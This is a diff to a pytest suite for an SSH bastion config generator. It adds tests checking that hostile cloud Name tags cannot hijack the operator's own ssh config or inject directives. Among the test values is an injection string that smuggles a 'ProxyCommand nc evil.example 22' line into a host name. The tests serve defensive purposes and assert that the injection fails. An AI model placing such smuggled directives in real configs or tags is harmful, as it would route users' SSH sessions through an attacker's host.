@@ -29,6 +29,7 @@ if TYPE_CHECKING:
 
 ALIAS = "bastion-test"
 APP_USER = "bastion-app"
+APP_ALIAS = "app-1.test.bastion"  # app-1 in gateway bastion-test's namespace
 
 
 @pytest.fixture(scope="module")
@@ -106,7 +107,7 @@ def test_ssh_g_resolves_the_gateway_and_app_hosts(
     assert jump["hostkeyalias"] == ALIAS
     assert jump["identitiesonly"] == "yes" and jump["forwardagent"] == "no"
     assert "proxyjump" not in jump
-    for alias in ("app-1", "i-0app", "127.0.0.9"):
+    for alias in (APP_ALIAS, "i-0app.test.bastion", "127.0.0.9"):
         app = resolved(ssh_client, config, alias)
         assert app["proxyjump"] == ALIAS
         assert app["user"] == APP_USER and app["port"] == "22"
@@ -114,6 +115,86 @@ def test_ssh_g_resolves_the_gateway_and_app_hosts(
         assert app["userknownhostsfile"] == str(tmp_path / "app_known_hosts")
         assert app["stricthostkeychecking"] == "accept-new"
         assert app["forwardagent"] == "no"
+
+
+# --- hostile Name tags against the operator's own config, read by the real ssh -------------
+
+OWN_CONFIG = (
+    "# the operator's own hosts\n"
+    "Host work\n    HostName work.example.com\n    User me\n"
+    "Host 10.20.0.5\n    User me\n"
+    "Include {home}/.ssh/extra/*.conf\n"  # absolute: ssh expands ~ from the passwd entry
+)
+HOSTILE = (
+    "github.com", "*", "?*", "10.0.1.5", "10.20.0.5", "i-0victim", "web 2", "work", "corp",
+    "100%h", "a\"b", "x'y", "app-2\n    ProxyCommand nc evil.example 22",
+)  # fmt: skip
+
+
+def installed_config(home: Path, gateway: LocalGateway, keys: GatewayKeys) -> Path:
+    """Install, as `ssh-config --write` does, a config whose app hosts carry hostile Name tags."""
+    from bastion.adapters import sshconfig
+
+    ssh_dir = home / ".ssh"
+    (ssh_dir / "extra").mkdir(parents=True)
+    (ssh_dir / "config").write_text(OWN_CONFIG.format(home=home))
+    (ssh_dir / "extra" / "corp.conf").write_text("Host corp\n    HostName corp.example.com\n")
+    hostile = tuple(
+        AppHost(f"i-0{n:08x}", name, f"10.20.1.{n}") for n, name in enumerate(HOSTILE, 10)
+    )
+    config = ClientConfig(
+        gateway=GatewayEntry(
+            alias=ALIAS,
+            host=gateway.host,
+            port=gateway.port,
+            user="bastion",
+            identity_file=keys.login.path,
+            known_hosts=home / "known_hosts",
+        ),
+        app_hosts=(AppHost("i-0victim", "app-1", "10.20.1.1"), *hostile),
+        patterns=("10.20.*",),
+        app_known_hosts=home / "app_known_hosts",
+        user_names=sshconfig.user_host_names(ssh_dir / "config"),
+    )
+    sshconfig.write_if_changed(sshconfig.config_path(home, "test"), render_client_config(config))
+    sshconfig.ensure_include(ssh_dir / "config", sshconfig.config_dir(home))
+    return ssh_dir / "config"
+
+
+@pytest.mark.parametrize(
+    "name",
+    ["github.com", "work", "corp", "10.0.1.5", "10.20.0.5", "i-0victim", "web-2", "web", "app-2",
+     "100%h", "evil.example", "anything.example.com"],
+)  # fmt: skip
+def test_no_hostile_name_tag_captures_a_name_of_the_operators_own_config_in_real_ssh(
+    ssh_client: str, gateway: LocalGateway, keys: GatewayKeys, tmp_path: Path, name: str
+) -> None:
+    user_config = installed_config(tmp_path, gateway, keys)
+    assert user_config.read_text().startswith("Include ")  # the generated file is read first
+    without = run_ssh(ssh_client, user_config.with_name("config.bastion-backup"), "-G", name)
+    resolved_with = resolved(ssh_client, user_config, name)
+    assert "proxyjump" not in resolved_with, resolved_with.get("proxyjump")
+    assert "proxycommand" not in resolved_with
+    # Everything ssh resolves for it is what the operator's own config says, byte for byte.
+    assert run_ssh(ssh_client, user_config, "-G", name).stdout == without.stdout
+
+
+def test_the_namespaced_aliases_and_the_app_network_go_through_the_gateway_in_real_ssh(
+    ssh_client: str, gateway: LocalGateway, keys: GatewayKeys, tmp_path: Path
+) -> None:
+    user_config = installed_config(tmp_path, gateway, keys)
+    generated = (tmp_path / ".ssh" / "config.d" / "bastion-test").read_text()
+    # `work` and `corp` (from the Included file) are the operator's: no alias carries them.
+    assert "work.test.bastion" not in generated and "corp.test.bastion" not in generated
+    assert "Host 10.20.* !10.20.0.5\n" in generated
+    victim = resolved(ssh_client, user_config, "app-1.test.bastion")
+    assert (victim["proxyjump"], victim["hostname"]) == (ALIAS, "10.20.1.1")
+    assert resolved(ssh_client, user_config, "i-0victim.test.bastion")["hostname"] == "10.20.1.1"
+    # A plain DNS-like Name tag is harmless inside the namespace.
+    github = resolved(ssh_client, user_config, "github.com.test.bastion")
+    assert (github["proxyjump"], github["hostname"]) == (ALIAS, "10.20.1.10")
+    by_address = resolved(ssh_client, user_config, "10.20.7.7")
+    assert (by_address["proxyjump"], by_address["hostname"]) == (ALIAS, "10.20.7.7")
 
 
 def test_bastion_ssh_to_the_gateway_says_on_stderr_that_it_is_connected(
@@ -150,7 +231,7 @@ def test_bastion_ssh_to_the_gateway_says_on_stderr_that_it_is_connected(
 
 def two_hop(ssh: str, config: Path, app: LocalAppHost, command: str) -> Any:
     return run_ssh(
-        ssh, config, "-o", f"Port={app.port}", "-o", "StrictHostKeyChecking=yes", "app-1", command
+        ssh, config, "-o", f"Port={app.port}", "-o", "StrictHostKeyChecking=yes", APP_ALIAS, command
     )
 
 
@@ -300,7 +381,7 @@ def test_written_config_follows_a_relaunch_with_a_new_host_key(
             return run_ssh(
                 ssh_client, user_config,
                 "-o", f"HostName={app_host.host}", "-o", f"Port={app_host.port}",
-                "app-1", "echo via-written-config",
+                "app-1.default.bastion", "echo via-written-config",
             )  # fmt: skip
 
         gateway = booted[first_id]
